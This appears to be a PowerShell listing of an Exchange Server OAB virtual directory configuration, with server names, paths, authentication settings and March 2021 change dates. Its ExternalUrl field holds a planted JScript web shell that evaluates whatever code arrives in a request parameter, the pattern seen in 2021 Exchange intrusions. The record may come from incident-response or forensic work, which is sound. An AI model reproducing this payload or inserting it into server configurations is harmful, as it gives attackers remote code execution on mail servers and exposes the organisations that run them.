
RunspaceId                      : b6a1f3d0-2c9e-4f81-a7d5-93e0c4b28f17
PollInterval                    : 480
OfflineAddressBooks             : 
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : 
ExtendedProtectionSPNList       : 
AdminDisplayVersion             : Version 15.2 (Build 792.3)
Server                          : EXCH01
InternalUrl                     : https://exch01.contoso.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["zsuvgk"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
AdminDisplayName                : 
ExchangeVersion                 : 0.10 (14.0.100.0)
Name                            : OAB (Default Web Site)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local
Identity                        : EXCH01\OAB (Default Web Site)
Guid                            : 4d0c8f2a-6b1e-4f73-9a55-2c7e1d9b3f60
ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/2/2021 2:57:31 AM
WhenCreated                     : 11/17/2020 10:21:40 AM
WhenChangedUTC                  : 3/2/2021 2:57:31 AM
WhenCreatedUTC                  : 11/17/2020 10:21:40 AM
OrganizationId                  : 
OriginatingServer               : DC01.contoso.local
IsValid                         : True
ObjectState                     : Unchanged


